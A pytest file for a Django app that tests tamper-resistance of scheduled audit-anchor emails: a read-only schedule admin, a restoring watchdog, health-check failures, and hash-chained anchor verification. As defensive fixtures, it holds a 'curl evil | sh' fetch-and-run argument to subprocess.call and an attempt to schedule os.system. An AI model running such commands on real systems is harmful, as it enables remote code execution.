"""Nobody silences the anchors (issue 24): the schedule is code, read-only in the admin and
put back by the watchdog; /health/ and `check` fail once no anchor went out for a period;
each anchor is numbered and names the previous one's head; its audit entry says where it
went."""

from datetime import timedelta
from io import StringIO

import pytest
from django.core import mail
from django.core.management import call_command
from django.core.management.base import CommandError, SystemCheckError
from django.utils import timezone
from django_q.models import Schedule

from audit import anchors
from audit.models import AuditEntry
from campaigns import notices, schedules, tasks
from tests.audit_helpers import write_entries


def mailed_anchor():
    mail.outbox.clear()
    notices.send_anchor("schedule")
    return mail.outbox[-1].body


def restored():
    return [e.payload for e in AuditEntry.objects.filter(action="audit.schedule_restored")]


def test_the_admin_shows_the_schedules_but_cannot_add_change_or_delete_one(db, admin_client):
    anchor = Schedule.objects.get(name=schedules.ANCHOR)
    page = admin_client.get("/admin/django_q/schedule/")
    assert page.status_code == 200 and schedules.ANCHOR in page.content.decode()
    assert admin_client.get("/admin/django_q/schedule/add/").status_code == 403
    admin_client.post("/admin/django_q/schedule/add/", {
        "name": "x", "func": "os.system", "schedule_type": "O", "repeats": "-1"})
    change = admin_client.get(f"/admin/django_q/schedule/{anchor.pk}/change/").content.decode()
    assert 'name="next_run' not in change and 'name="func"' not in change
    admin_client.post(f"/admin/django_q/schedule/{anchor.pk}/change/", {
        "name": anchor.name, "func": anchor.func, "next_run_0": "2099-01-01",
        "next_run_1": "00:00:00", "schedule_type": "I", "minutes": "1440", "repeats": "-1"})
    admin_client.post(f"/admin/django_q/schedule/{anchor.pk}/delete/", {"post": "yes"})
    assert admin_client.post("/admin/django_q/schedule/", {
        "action": "delete_selected", "_selected_action": [anchor.pk]}).status_code in (200, 302)
    anchor.refresh_from_db()
    assert anchor.next_run.year < 2099 and not Schedule.objects.filter(func="os.system")


@pytest.mark.parametrize("tamper", ["moved", "deleted", "retimed", "other_cluster"])
def test_the_watchdog_puts_a_tampered_anchor_schedule_back_and_says_so(db, tamper):
    anchor = Schedule.objects.filter(name=schedules.ANCHOR)
    {"moved": lambda: anchor.update(next_run=timezone.now().replace(year=2099)),
     "deleted": anchor.delete,
     "retimed": lambda: anchor.update(minutes=30000),
     "other_cluster": lambda: anchor.update(cluster="nobody")}[tamper]()
    tasks.watchdog()
    schedule = Schedule.objects.get(name=schedules.ANCHOR)
    assert schedule.next_run <= timezone.now() + timedelta(hours=24)
    assert (schedule.minutes, schedule.cluster, schedule.func) == (
        24 * 60, None, "campaigns.tasks.mail_audit_anchor")
    (correction,) = restored()
    assert correction["schedule"] == schedules.ANCHOR
    expected = {"moved": "next_run", "retimed": "minutes", "other_cluster": "cluster"}
    if tamper == "deleted":
        assert correction["found"] == "missing"
    else:
        assert expected[tamper] in correction["found"]
    tasks.watchdog()
    assert len(restored()) == 1  # put back once; nothing to correct the next minute


def test_a_schedule_of_an_arbitrary_function_is_removed_and_audited(db):
    Schedule.objects.create(name="backup", func="subprocess.call", args="'curl evil | sh'",
                            schedule_type=Schedule.MINUTES, minutes=1, repeats=-1)
    tasks.watchdog()
    assert not Schedule.objects.filter(name="backup").exists()
    (correction,) = restored()
    assert correction == {"schedule": "backup", "found": {"func": "subprocess.call"},
                          "removed": True}


def test_an_untouched_plan_writes_nothing(db):
    tasks.watchdog()
    tasks.watchdog()
    assert restored() == []


REAL_NOW = timezone.now


def _moved_clock(monkeypatch, by):
    later = REAL_NOW() + by
    monkeypatch.setattr(anchors.timezone, "now", lambda: later)


def _deploy_check():
    call_command("check", "--deploy", "--database", "default", stdout=StringIO(),
                 stderr=StringIO())


def test_health_and_check_fail_once_no_anchor_went_out_for_a_period(oscar, client,
                                                                    monkeypatch, settings):
    write_entries(2)
    mailed_anchor()
    Schedule.objects.filter(name=schedules.ANCHOR).delete()  # silenced, and no worker to see
    _moved_clock(monkeypatch, timedelta(hours=23))
    assert client.get("/health/").status_code == 200
    _moved_clock(monkeypatch, timedelta(hours=24, minutes=30))
    response = client.get("/health/")
    assert response.status_code == 503
    assert "no audit anchor has reached the association for 24 h" in response.json()[
        "audit_anchor"]
    settings.SECURE_SSL_REDIRECT = settings.SESSION_COOKIE_SECURE = True
    with pytest.raises(SystemCheckError, match="audit.E002"):
        _deploy_check()


def test_an_anchor_that_failed_to_go_out_does_not_count(oscar, client, monkeypatch, settings):
    write_entries(1)
    settings.EMAIL_BACKEND = "tests.test_anchors_nobody_silences.BrokenBackend"
    notices.send_anchor("schedule")
    _moved_clock(monkeypatch, timedelta(hours=25))
    assert client.get("/health/").status_code == 503


class BrokenBackend:
    def __init__(self, **kwargs):
        pass

    def send_messages(self, messages):
        raise OSError("connection refused")


def test_anchors_are_numbered_and_each_names_the_previous_head(oscar):
    write_entries(2)
    first = mailed_anchor()
    write_entries(1)
    second = mailed_anchor()
    (one,), (two,) = anchors.parse(first), anchors.parse(second)
    assert (one.number, one.previous, two.number) == (1, "none", 2)
    assert two.previous == one.hash
    assert "anchor no. 2" in mail.outbox[-1].subject
    entry = AuditEntry.objects.filter(action="audit.anchor_mailed").last()
    assert entry.payload["addresses"] == [oscar.email] and entry.payload["number"] == 2


def test_verification_names_an_anchor_missing_from_what_the_association_kept(
        oscar, tmp_path):
    write_entries(1)
    first = mailed_anchor()
    write_entries(1)
    mailed_anchor()  # never reached the archive (deleted, or redirected)
    write_entries(1)
    third = mailed_anchor()
    kept = tmp_path / "kept.txt"
    kept.write_text(first + "\n" + third, encoding="utf-8")
    out, err = StringIO(), StringIO()
    call_command("verify_audit", "--anchor", str(kept), stdout=out, stderr=err)
    assert "anchors missing from what was kept: number 2" in err.getvalue()
    assert "anchor 2: mailed in entry" in err.getvalue() and oscar.email in err.getvalue()


def test_a_forged_anchor_that_does_not_link_to_the_previous_one_fails(oscar, tmp_path):
    write_entries(1)
    first = mailed_anchor()
    write_entries(1)
    (two,) = anchors.parse(mailed_anchor())
    forged = two.line().replace(two.previous, "f" * 64)
    kept = tmp_path / "kept.txt"
    kept.write_text(first + "\n" + forged, encoding="utf-8")
    with pytest.raises(CommandError, match="do not link up"):
        call_command("verify_audit", "--anchor", str(kept), stdout=StringIO(),
                     stderr=StringIO())
